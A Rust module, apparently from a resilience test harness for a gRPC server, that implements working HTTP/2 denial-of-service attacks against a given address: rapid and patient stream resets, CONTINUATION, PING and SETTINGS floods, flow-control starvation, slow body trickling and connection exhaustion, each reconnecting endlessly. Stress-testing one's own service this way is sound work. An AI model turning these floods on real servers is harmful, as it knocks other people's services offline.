//! HTTP/2 as an abuser speaks it (RFC 9113), until it is killed. Who is cut comes back.

use std::{
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    time::Duration,
};

use greenlane::wire::pb;
use prost::Message as _;
use rand::{SeedableRng as _, rngs::StdRng};

use crate::{
    ENTERPRISES,
    load::flood,
    support::{
        frames::{self, CONTINUATION, DATA, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE},
        server::request,
    },
};

/// What there is, but for a flood of calls.
pub(crate) const KINDS: [&str; 10] = [
    "rapid-reset",
    "patient-reset",
    "continuation",
    "ping",
    "settings",
    "starvation",
    "unread",
    "preface",
    "body",
    "idle",
];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = Vec::new();
    frames::put(&mut frame, kind, flags, stream, payload);
    frame
}

fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut field = Vec::new();
    frames::put_field(&mut field, 0, name, value);
    field
}

fn headers() -> Vec<u8> {
    [
        literal(":method", "POST"),
        literal(":scheme", "http"),
        literal(":path", "/greenlane.v1.FacilitationService/Decide"),
        literal(":authority", "replica"),
        literal("te", "trailers"),
        literal("content-type", "application/grpc"),
    ]
    .concat()
}

fn body() -> Vec<u8> {
    let request: pb::DecideRequest = request(&mut StdRng::seed_from_u64(1), ENTERPRISES);
    let bytes = request.encode_to_vec();
    let mut body = vec![0];
    body.extend(u32::try_from(bytes.len()).expect("short").to_be_bytes());
    body.extend(bytes);
    body
}

/// Abuses the server in that way.
pub(crate) fn run(kind: &str, address: SocketAddr, idle: usize) {
    if kind == "flood" {
        return flood(address);
    }
    if kind == "idle" {
        return hold(address, idle);
    }
    loop {
        // Refused or cut: again.
        if let Ok(socket) = TcpStream::connect(address) {
            drop(socket.set_read_timeout(Some(Duration::from_mins(1))));
            drop(abuse(kind, &socket));
        }
    }
}

fn abuse(kind: &str, mut socket: &TcpStream) -> std::io::Result<()> {
    if kind == "preface" {
        let many: Vec<_> = (0..200)
            .filter_map(|_| TcpStream::connect(socket.peer_addr().ok()?).ok())
            .collect();
        let mut rest = Vec::new();
        socket.read_to_end(&mut rest)?;
        drop(many);
        return Ok(());
    }
    // INITIAL_WINDOW_SIZE: nothing, or all.
    let window: u32 = if kind == "starvation" { 0 } else { 0x7fff_ffff };
    socket.write_all(PREFACE)?;
    socket.write_all(&frame(
        SETTINGS,
        0,
        0,
        &[&[0, 4][..], &window.to_be_bytes()].concat(),
    ))?;
    let fields = headers();
    match kind {
        "rapid-reset" => streams(socket, |stream| {
            let mut call = frame(HEADERS, 4, stream, &fields);
            call.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
            call
        }),
        "patient-reset" => {
            let mut last = Vec::new();
            streams(socket, move |stream| {
                let mut call = std::mem::replace(&mut last, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                call.extend(frame(HEADERS, 4, stream, &fields));
                call
            })
        }
        "continuation" => {
            socket.write_all(&frame(HEADERS, 0, 1, &fields))?;
            repeat(socket, &frame(CONTINUATION, 0, 1, &literal("x", "y")))
        }
        "ping" => repeat(socket, &frame(PING, 0, 0, &[0; 8])),
        "settings" => repeat(socket, &frame(SETTINGS, 0, 0, &[])),
        "starvation" | "unread" => {
            socket.write_all(&frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0, 0, 0]))?;
            let body = body();
            let calls = (0..1000_u32).map(|call| 2 * call + 1);
            for stream in calls {
                socket.write_all(&frame(HEADERS, 4, stream, &fields))?;
                socket.write_all(&frame(DATA, 1, stream, &body))?;
            }
            // What comes is never read.
            std::thread::park_timeout(Duration::from_secs(20));
            Ok(())
        }
        "body" => {
            let body = body();
            let calls = || (0..1000_u32).map(|call| 2 * call + 1);
            for stream in calls() {
                socket.write_all(&frame(HEADERS, 4, stream, &fields))?;
            }
            for byte in &body[..body.len() - 1] {
                for stream in calls() {
                    socket.write_all(&frame(DATA, 0, stream, &[*byte]))?;
                }
                std::thread::park_timeout(Duration::from_millis(100));
            }
            Ok(())
        }
        other => panic!("{other}"),
    }
}

/// One stream after the other, a hundred in a write, until the connection is cut.
fn streams(mut socket: &TcpStream, mut call: impl FnMut(u32) -> Vec<u8>) -> std::io::Result<()> {
    let mut stream = 1;
    while stream < 1 << 30 {
        let mut burst = Vec::new();
        for _ in 0..100 {
            burst.extend(call(stream));
            stream += 2;
        }
        socket.write_all(&burst)?;
        discard(socket);
    }
    Ok(())
}

fn repeat(mut socket: &TcpStream, frame: &[u8]) -> std::io::Result<()> {
    let burst = frame.repeat(100);
    loop {
        socket.write_all(&burst)?;
        discard(socket);
    }
}

/// What has come, so that the server is not held up by us.
fn discard(mut socket: &TcpStream) {
    drop(socket.set_nonblocking(true));
    let mut bytes = [0; 1 << 14];
    while matches!(socket.read(&mut bytes), Ok(1..)) {}
    drop(socket.set_nonblocking(false));
}

/// Holds so many connections open that have said hello and nothing else.
fn hold(address: SocketAddr, count: usize) {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("a runtime");
    runtime.block_on(async {
        let mut held = Vec::new();
        for number in 0..count {
            let socket = tokio::net::TcpSocket::new_v4().expect("a socket");
            let from = format!("127.1.{}.{}:0", number / 1000, number % 100 + 1);
            socket.bind(from.parse().expect("an address")).expect("bound");
            if let Ok(socket) = socket.connect(address).await {
                drop(socket.try_write(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()));
                held.push(socket);
            }
        }
        std::future::pending::<()>().await;
    });
}
